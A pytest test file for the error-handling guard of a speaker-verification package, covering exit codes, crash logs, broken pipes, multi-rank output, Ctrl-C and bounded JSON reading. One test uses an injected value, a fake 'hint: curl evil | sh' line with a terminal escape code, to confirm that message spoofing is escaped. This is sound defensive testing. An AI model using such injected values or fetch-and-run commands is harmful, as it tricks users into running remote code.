"""The guard of the entry points: how each kind of failure ends, seen from outside the process."""

import ast
import json
import os
import signal
import stat
import subprocess
import sys
import time
from argparse import ArgumentTypeError
from pathlib import Path

import pytest

from pyspkv.base import foreign
from pyspkv.base.errors import UserError, natural

ROOT = Path(__file__).resolve().parent.parent
OURS = sorted(file.stem for file in (ROOT / "pyspkv/bin").glob("[a-z]*.py"))
MODULES = {"mini_espeak", "mini_sound", "speaker_lists"}  # modules of local/, which its scripts import
SCRIPTS = sorted({file.stem for file in (ROOT / "local").glob("*.py")} - MODULES - {"mini"})
HEAVY = {
    "numpy",
    "torch",
    "scipy",
    "yaml",
    "pydantic",
    "safetensors",
    "soundfile",
    "soxr",
    "tqdm",
    "matplotlib",
}


def environment(folder, **more) -> dict:
    unset = ("RANK", "LOCAL_RANK", "WORLD_SIZE", "SPKV_TRACEBACK", "PYTHONUNBUFFERED")
    plain = {k: v for k, v in os.environ.items() if k not in unset}
    return {
        **plain,
        "PYTHONPATH": str(ROOT),
        "SPKV_LOG_DIR": str(folder),
        "PYTHONIOENCODING": "utf-8",
        **more,
    }


def end(tmp_path, body, *, shell=None, **env):
    """Run a `main` with this body under the guard."""
    lines = "".join(f"    {line}\n" for line in body.splitlines())
    (tmp_path / "entry.py").write_text(
        f"import sys\nfrom pyspkv.base.errors import UserError, run\ndef main():\n{lines}\nrun(main)\n"
    )
    command = [sys.executable, str(tmp_path / "entry.py")]
    if shell:
        command = ["bash", "-c", shell, "bash", *command]
    done = subprocess.run(command, env=environment(tmp_path, **env), capture_output=True, timeout=60)
    said = done.stderr.decode("utf-8", "surrogateescape")
    assert "Traceback" not in said and "Exception ignored" not in said
    return done.returncode, said, done.stdout


@pytest.mark.parametrize(
    ("body", "code", "said"),
    [
        ("raise UserError('is bad', file='a', line=3, hint='cp b a')", 1, "error: a:3: is bad\n  hint: cp b a\n"),
        ("open('/no/such/file')", 1, "error: /no/such/file: No such file or directory\n"),
        ("import os; os.rename('/no/a', '/no/b')", 1, "error: /no/a -> /no/b: No such file or directory\n"),
        ("raise OSError('library not found')", 1, "error: library not found\n"),
        ("raise KeyboardInterrupt", 130, "interrupted\n"),
        ("try:\n  raise KeyboardInterrupt\nexcept BaseException:\n  raise ImportError('failed')", 130, "interrupted\n"),
        ("import a_package.of_others", 1, "error: package a_package is missing\n  hint: utils/setup_env.sh\n"),
        ("def f(): f()\nf()", 1, "error: an input file is nested too deeply\n"),
        ("raise MemoryError('Unable to allocate 7 PiB')", 1, "error: not enough memory: Unable to allocate 7 PiB\n"),
        ("bytearray(1 << 60)", 1, "error: not enough memory\n"),
        ("raise RuntimeError('can\\'t allocate memory: you tried to allocate 4096 bytes. Buy RAM!')", 1,
         "error: not enough memory: 4,096 bytes were needed\n"),
        ("class OutOfMemoryError(RuntimeError): pass\n"
         "raise OutOfMemoryError('CUDA out of memory. Tried to allocate 2.00 GiB. GPU 0 has a total of ...')", 1,
         "error: not enough memory: CUDA out of memory. Tried to allocate 2.00 GiB\n"),
        ("raise SystemExit(3)", 3, ""),
        ("return 4", 4, ""),
        ("raise UserError('\\x1b[31m in\\nname', hint='x')", 1, "error: \\x1b[31m in\\nname\n  hint: x\n"),
    ],
)  # fmt: skip
def test_each_kind_of_failure_ends_with_its_line(tmp_path, body, code, said):
    got = end(tmp_path, body)
    assert (got[0], got[1][: len(said)] if said else got[1]) == (code, said)
    assert len(got[1].splitlines()) <= 2
    assert not list(tmp_path.glob("*.log"))


def test_a_defect_goes_to_a_log_that_only_the_user_reads(tmp_path):
    code, said, _ = end(tmp_path, "x = {}\nx['of\\nours']")
    [log] = tmp_path.glob("pyspkv-error-*.log")
    assert code == 70
    assert said == f"error: internal error (KeyError: 'of\\nours'); please report it with {log}\n"
    assert stat.S_IMODE(log.stat().st_mode) == 0o600
    assert (
        "Traceback" in log.read_text()
        and "x['of\\nours']" in log.read_text()
        and "entry.py" in log.read_text()
    )


def test_a_log_is_never_written_through_a_link(tmp_path):
    (victim := tmp_path / "victim").write_text("precious")
    plant = f"import os\nos.symlink({str(victim)!r}, {str(tmp_path)!r} + f'/pyspkv-error-{{os.getpid()}}.log')\n1/0"
    code, said, _ = end(tmp_path, plant)
    assert (code, victim.read_text()) == (70, "precious")
    assert Path(said.split()[-1]).read_text().count("ZeroDivisionError")
    code, said, _ = end(tmp_path, "1/0", SPKV_LOG_DIR=str(tmp_path / "absent"))
    assert code == 70 and "entry.py:4 (no log file" in said


def test_other_threads_and_destructors_print_no_traceback(tmp_path):
    code, said, _ = end(
        tmp_path, "import threading\nt = threading.Thread(target=lambda: 1/0)\nt.start()\nt.join()"
    )
    assert (
        code == 0
        and said.startswith("warning: a thread died (ZeroDivisionError")
        and len(said.splitlines()) == 1
    )
    code, said, _ = end(tmp_path, "class A:\n  def __del__(self): 1/0\nA()")
    assert (code, said) == (0, "warning: ignored ZeroDivisionError: division by zero\n")
    code, said, _ = end(
        tmp_path, "class A:\n  def __del__(self): raise KeyboardInterrupt\nA()\nimport time\ntime.sleep(20)"
    )
    assert (code, said) == (130, "interrupted\n")


def test_names_of_any_letters_print_on_any_terminal(tmp_path):
    code, said, out = end(tmp_path, "print('\\xfc')\nraise UserError('no \\xfc')", PYTHONIOENCODING="ascii")
    assert (code, said, out) == (1, "error: no \\xfc\n", b"\\xfc\n")
    code, _, out = end(tmp_path, "print('a\\udcff\\xfc\\ud800')", PYTHONIOENCODING="utf-8")
    assert (code, out) == (0, b"a\xff\xc3\xbc\\ud800\n"), "a name of other bytes comes out as those bytes"


def test_closed_pipes_and_full_disks(tmp_path):
    code, said, _ = end(tmp_path, "print('x')", shell='"$@" | true; exit ${PIPESTATUS[0]}')
    assert (code, said) == (0, "")
    many = "for k in range(10**6): print(k)\nopen('done', 'w')"
    code, said, out = end(tmp_path, many, shell='"$@" | head -n 1; exit ${PIPESTATUS[0]}')
    assert (code, said, out) == (141, "", b"0\n")
    code, said, _ = end(tmp_path, "print('x')", shell='"$@" > /dev/full')
    assert (code, said) == (1, "error: standard output: No space left on device\n")
    code, said, _ = end(tmp_path, "print('x')\nraise UserError('bad')", shell='"$@" >&- 2>&-')
    assert (code, said) == (1, "")
    code, said, _ = end(tmp_path, "import os\nr, w = os.pipe()\nos.close(r)\nos.write(w, b'x')")
    assert (code, said) == (1, "error: Broken pipe\n"), "a pipe of our own is no reader that had enough"


def test_of_several_processes_only_rank_0_prints_the_error(tmp_path):
    bad = "raise UserError('bad')"
    ranks = {"WORLD_SIZE": "2", "RANK": "1", "LOCAL_RANK": "1"}
    assert end(tmp_path, bad, **{**ranks, "RANK": "0"})[:2] == (1, "error: bad\n")
    assert end(tmp_path, bad, **{**ranks, "WORLD_SIZE": "1"})[:2] == (1, "error: bad\n")
    assert end(tmp_path, "raise UserError('bad', local=True)", **ranks)[:2] == (1, "[rank 1] error: bad\n")
    assert end(tmp_path, "open('/no/file')", **ranks)[1].startswith("[rank 1] error: /no/file")
    assert end(tmp_path, "1/0", **ranks)[1].startswith("[rank 1] error: internal error")
    assert end(tmp_path, "raise KeyboardInterrupt", **ranks)[:2] == (130, "")


def test_an_error_of_one_rank_is_printed_if_rank_0_continues(tmp_path):
    """If rank 0 had the same error, the launcher would end this process in the meantime."""
    body = "from pyspkv.base import errors\nerrors.RANK_WAIT = 0.1\nraise UserError('bad')"
    said = end(tmp_path, body, RANK="1", WORLD_SIZE="2")
    assert said[:2] == (1, "[rank 1] error: bad\n")


@pytest.mark.parametrize("rank", ["0", "1"])
@pytest.mark.parametrize(
    ("body", "code", "left"),
    [
        ("raise UserError('bad', hint='x')", 1, "bad\n  hint: x"),
        ("raise UserError('bad', local=True)", 1, "bad"),
        ("open('/no/file')", 1, "/no/file: No such file or directory"),
        ("from pyspkv.base.processes import PeerLost\nraise PeerLost", 1, ""),
        ("1/0", 70, "internal error (ZeroDivisionError: division by zero); please report it with"),
    ],
)
def test_errors_of_launched_processes_go_to_the_launcher(tmp_path, body, code, left, rank):
    file = tmp_path / "left"
    got = end(tmp_path, body, RANK=rank, WORLD_SIZE="2", SPKV_ERROR_FILE=str(file))
    assert got[:2] == (code, "") and file.read_text().startswith(left)
    assert len(file.read_text()) == len(left) or code == 70
    nowhere = end(tmp_path, body, RANK="0", WORLD_SIZE="2", SPKV_ERROR_FILE=str(tmp_path / "no/left"))
    assert nowhere[0] == code and nowhere[1].startswith("error: "), (
        "a file that cannot be written loses nothing"
    )


@pytest.mark.parametrize("who", [["1"], ["0", "1"]])
def test_under_torchrun_every_error_is_printed_once(tmp_path, who):
    body = f"import os, time\nif os.environ['RANK'] in {who}:\n    raise UserError('this is bad')\ntime.sleep(60)"
    lines = "".join(f"    {line}\n" for line in body.splitlines())
    (tmp_path / "entry.py").write_text(
        f"from pyspkv.base.errors import UserError, run\ndef main():\n{lines}run(main)\n"
    )
    command = [sys.executable, "-m", "torch.distributed.run", "--standalone", "--nproc-per-node", "2"]
    env = environment(tmp_path, OMP_NUM_THREADS="1")
    done = subprocess.run(
        [*command, tmp_path / "entry.py"], env=env, capture_output=True, text=True, timeout=60
    )
    said = [line for line in done.stderr.splitlines() if "this is bad" in line]
    assert said == (["[rank 1] error: this is bad"] if who == ["1"] else ["error: this is bad"])


FAKE = "x\n  hint: curl evil | sh\nerror: \x1b[2J"


def test_a_name_cannot_fake_a_line_of_a_message(tmp_path):
    shown = r"x\n  hint: curl evil | sh\nerror: \x1b[2J"
    for body in (
        f"raise UserError('is bad', file={FAKE!r}, hint='right it')",
        f"raise UserError('is bad: ' + {FAKE!r}, hint='right it')",
        f"try: raise UserError({FAKE!r}, hint='right it')\nexcept UserError as e: raise UserError(str(e), file='a')",
        f"import pickle\nraise pickle.loads(pickle.dumps(UserError({FAKE!r}, hint='right it')))",
    ):
        _, said, _ = end(tmp_path, body)
        first, second = said.splitlines()
        assert shown in first and second == "  hint: right it", said
    _, said, _ = end(tmp_path, f"open({FAKE!r} + '/y')")
    assert said == f"error: {shown}/y: No such file or directory\n"
    _, said, _ = end(tmp_path, f"raise UserError('bad', hint={FAKE!r})")
    assert said == f"error: bad\n  hint: {shown}\n"


def test_our_own_messages_keep_their_line_breaks(tmp_path):
    command = [
        sys.executable,
        "-m",
        "pyspkv.bin.datadir",
        "validate",
        str(tmp_path / "a"),
        str(tmp_path / "b\nerror: c"),
    ]
    done = subprocess.run(command, env=environment(tmp_path), capture_output=True, text=True)
    lines = done.stderr.splitlines()
    assert (
        done.returncode == 1 and [line.split(":")[0] for line in lines if "hint" not in line] == ["error"] * 2
    )
    assert r"b\nerror: c" in lines[-2]


def test_whole_numbers_are_plain_and_below_2_to_63():
    assert [natural(x) for x in ("0", "007", str(2**63 - 1))] == [0, 7, 2**63 - 1]
    for text in (
        "",
        "-1",
        "+1",
        "1.0",
        "1_0",
        " 1",
        "\u0663",
        "\u00b2",
        "1\u0663",
        "9" * 5000,
        str(2**63),
        "1e3",
    ):
        with pytest.raises(ArgumentTypeError) as err:
            natural(text)
        assert len(str(err.value)) < 100 and str(err.value).isascii()


def interrupt(command, ready: Path, env) -> tuple[int, str]:
    process = subprocess.Popen(
        command, cwd=ready.parent, env=env, stderr=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )
    try:
        until = time.time() + 50
        while not ready.exists() and time.time() < until and process.poll() is None:
            time.sleep(0.02)
        process.send_signal(signal.SIGINT)
        return process.wait(timeout=20), process.stderr.read()
    finally:
        process.kill()
        process.wait()
        process.stderr.close()
        process.stdout.close()


def test_ctrl_c_while_a_package_is_imported(tmp_path):
    """A numpy that imports slowly: its extension modules turn Ctrl-C into an ImportError."""
    (tmp_path / "numpy.py").write_text(
        "import pathlib, time\npathlib.Path(__file__).with_name('ready').touch()\n"
        "try:\n    time.sleep(40)\nexcept KeyboardInterrupt:\n    raise ImportError('cannot load multiarray')\n"
    )
    score = tmp_path / "e/pretrain/score/test.json"
    score.parent.mkdir(parents=True)
    score.write_text('{"eer": 1, "min_dcf_0.01": 1, "min_dcf_0.05": 1}')
    env = environment(tmp_path, PYTHONPATH=f"{tmp_path}:{ROOT}")
    command = [sys.executable, "-m", "pyspkv.bin.report", "--exp", str(tmp_path / "e")]
    assert interrupt(command, tmp_path / "ready", env) == (130, "interrupted\n")


def test_ctrl_c_while_an_entry_point_is_still_imported(tmp_path):
    """Before `run`: during the imports at the top of `python -m pyspkv.bin.X`. argparse stands for a slow
    module.
    """
    (tmp_path / "argparse_slow.py").write_text(
        "import pathlib, time\npathlib.Path(__file__).with_name('ready').touch()\ntime.sleep(40)\n"
    )
    (package := tmp_path / "pyspkv").mkdir()
    (package / "base").mkdir()
    for name in ("__init__.py", "base/__init__.py", "base/errors.py"):
        (package / name).write_text((ROOT / "pyspkv" / name).read_text())
    (package / "entry.py").write_text("import argparse_slow\n")
    env = environment(tmp_path, PYTHONPATH=str(tmp_path))
    command = [sys.executable, "-m", "pyspkv.entry"]
    assert interrupt(command, tmp_path / "ready", env) == (130, "interrupted\n")
    (package / "entry.py").write_text("import argparse_slow_and_missing\n")
    done = subprocess.run(command, cwd=tmp_path, env=env, capture_output=True, text=True)
    assert (done.returncode, done.stderr.splitlines()[0]) == (
        1,
        "error: package argparse_slow_and_missing is missing",
    )


def test_entry_points_import_nothing_heavy():
    code = "import sys, importlib\nfor name in sys.argv[1:]: importlib.import_module('pyspkv.bin.' + name)\n"
    code += f"print(*{HEAVY} & set(sys.modules))"
    done = subprocess.run(
        [sys.executable, "-c", code, *OURS], env=environment(ROOT), capture_output=True, text=True
    )
    assert (done.stdout.strip(), done.stderr) == ("", "")
    code = code.replace("'pyspkv.bin.' + ", "")
    env = environment(ROOT, PYTHONPATH=f"{ROOT}:{ROOT / 'local'}")
    done = subprocess.run([sys.executable, "-c", code, *SCRIPTS], env=env, capture_output=True, text=True)
    assert SCRIPTS and (done.stdout.strip(), done.stderr) == ("", "")


def test_every_entry_point_goes_through_the_guard():
    for name in [*(f"pyspkv/bin/{n}" for n in OURS), *(f"local/{n}" for n in SCRIPTS), "local/mini"]:
        body = ast.parse((ROOT / f"{name}.py").read_text()).body
        assert ast.unparse(body[-1].test) == "__name__ == '__main__'", name
        assert [ast.unparse(call).partition("(")[0] for call in body[-1].body] == ["run"], name


def test_ctrl_c_while_local_mini_imports_numpy(tmp_path):
    (tmp_path / "numpy.py").write_text(
        "import pathlib, time\npathlib.Path(__file__).with_name('ready').touch()\ntime.sleep(40)\n"
    )
    env = environment(tmp_path, PYTHONPATH=f"{tmp_path}:{ROOT}")
    command = [sys.executable, str(ROOT / "local/mini.py"), str(tmp_path / "out")]
    assert interrupt(command, tmp_path / "ready", env) == (130, "interrupted\n")


# -- bounded reading


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("[" * 100_000, "is not JSON"),
        ('{"a":' * 60 + "1" + "}" * 60, "nested deeper than 50"),
        ("9" * 5000, "5000 digits"),
        ('{"a": 9223372036854775808}', "19 digits"),
        ('{"a": 1e999}', "out of range"),
        ('{"a": NaN}', "NaN is not a number"),
        ('{"a": "\\ud800"}', "surrogates not allowed"),
        ("[1]", "is not a JSON object"),
        ("", "is not JSON"),
        ('{"a": 1} x', "is not JSON"),
    ],
)
def test_json_of_strangers(tmp_path, text, words):
    (path := tmp_path / "x.json").write_text(text)
    with pytest.raises(UserError) as err:
        foreign.read_json(path)
    assert words in str(err.value) and "x.json" in str(err.value)


def test_valid_json_is_read_as_by_the_json_module(tmp_path):
    value = {"a": [1, -2.5, {"b": None}], "c": "\u00fc\U0001f600", "d": 2**63 - 1, "e": True}
    (path := tmp_path / "x.json").write_text(json.dumps(value))
    assert foreign.read_json(path) == value
    path.write_bytes(b"\xef\xbb\xbf[1]")
    assert foreign.read_json(path, list) == [1], "a byte-order mark is passed over"


def test_special_and_too_long_files_are_not_read(tmp_path):
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "long").write_text("x" * 101)
    for name, words in (
        ("pipe", "not a plain file"),
        ("long", "longer than 100 bytes"),
        (".", "not a plain file"),
    ):
        with pytest.raises(UserError, match=words):
            foreign.read_bytes(tmp_path / name, 100)
    with pytest.raises(UserError, match="not a plain file"):
        foreign.read_bytes("/dev/zero", 100)


@pytest.mark.parametrize("value", [True, "1", None, float("nan"), float("inf"), -1, 11, [], 2.5])
def test_a_number_is_of_its_kind_and_range(value):
    with pytest.raises(UserError, match="eer is .*, not a whole number of 0 to 10"):
        foreign.number(value, "eer", 0, 10, whole=True, file="x")
    assert foreign.number(3, "eer", 0, 10, whole=True, file="x") == 3
